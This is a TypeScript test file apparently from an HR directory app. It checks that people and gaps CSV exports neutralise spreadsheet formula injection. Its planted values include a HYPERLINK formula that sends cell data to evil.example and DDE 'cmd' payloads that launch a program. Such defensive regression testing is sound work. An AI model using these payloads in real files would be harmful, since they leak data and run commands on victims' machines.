import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { gapCsvChunks, gapCsvColumns } from "@/lib/gaps/csv";
import { importCsv } from "@/lib/import";
import { PEOPLE_HEADER } from "@/lib/import/test-files";
import { PEOPLE_CSV_COLUMNS } from "@/lib/people/directory";
import { ZPositionsQuery } from "@/lib/schemas/api";
import { ZPeopleQuery } from "@/lib/schemas/people";
import { createViewer } from "@/lib/server/access/viewer";
import type { AppUser } from "@/lib/server/auth/users";
import { findAllGapRows } from "@/lib/server/views/gaps";
import { findPeopleDirectory } from "@/lib/server/views/people-directory";
import { createTestDatabase, providersUnderTest, type TestDatabase } from "@/lib/testing/test-databases";
import { csvChunks } from "./csv";

// Issue 11: names imported as formulas came out of the exports unchanged and
// a spreadsheet ran them. Each planted value goes through the real import
// and comes out of the real export rows as text.
const PLANTED = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1)", "\t=1+1", "\r=1+1"];
const quote = (value: string) => `"${value.replace(/"/g, '""')}"`;

const providers = await providersUnderTest();

describe.each(providers)("exports neutralise formulas on %s", (provider) => {
  let t: TestDatabase;
  const hr: AppUser = { id: 1, email: "hr@acme.test", name: null, role: "hr", personId: null };
  beforeAll(async () => {
    t = await createTestDatabase(provider);
    const rows = PLANTED.map((name, i) => `E10${i},${quote(name)},p${i}@acme.test,${quote(name)},Acme,,L2,2015-03-01,2020-01-01,,,,,P-${i},,`);
    const result = await importCsv({ db: t.db, provider, kind: "people", content: [PEOPLE_HEADER, ...rows].join("\n"), fileName: "planted.csv", dryRun: false, actor: { label: "test", userId: undefined } });
    expect(result.ok, JSON.stringify(result.ok ? null : result.errors.slice(0, 3))).toBe(true);
  });
  afterAll(async () => t?.drop());

  it("stores the values as imported, and writes each as text in /people/export and /gaps/export", async () => {
    const stored = await t.db.person.findMany({ orderBy: { employeeId: "asc" }, select: { name: true } });
    expect(stored).toHaveLength(PLANTED.length);
    expect(stored.every((p) => /^[=+\-@\t\r]/.test(p.name))).toBe(true);
    const viewer = await createViewer({ db: t.db, user: hr, asOf: "2026-06-01", today: "2026-06-01" });
    const people = await findPeopleDirectory(viewer, { ...ZPeopleQuery.parse({}), page: 1, pageSize: 1000 });
    const gaps = await findAllGapRows(viewer, ZPositionsQuery.parse({}));
    const files = {
      people: parse([...csvChunks(people!.rows, PEOPLE_CSV_COLUMNS)].join(""), { columns: true }) as Record<string, string>[],
      gaps: parse([...gapCsvChunks(gaps, gapCsvColumns(true))].join(""), { columns: true }) as Record<string, string>[],
    };
    const cells = [...files.people.map((r) => r.name!), ...files.people.map((r) => r.title!), ...files.gaps.map((r) => r.title!)];
    expect(cells.length).toBeGreaterThanOrEqual(PLANTED.length * 2);
    for (const cell of cells) {
      expect(cell, "no cell starts a formula").not.toMatch(/^[=+\-@\t\r]/);
      expect(cell.startsWith("'"), cell).toBe(true);
    }
    for (const name of stored.map((p) => p.name)) expect(files.people.map((r) => r.name)).toContain(`'${name}`);
  });
});
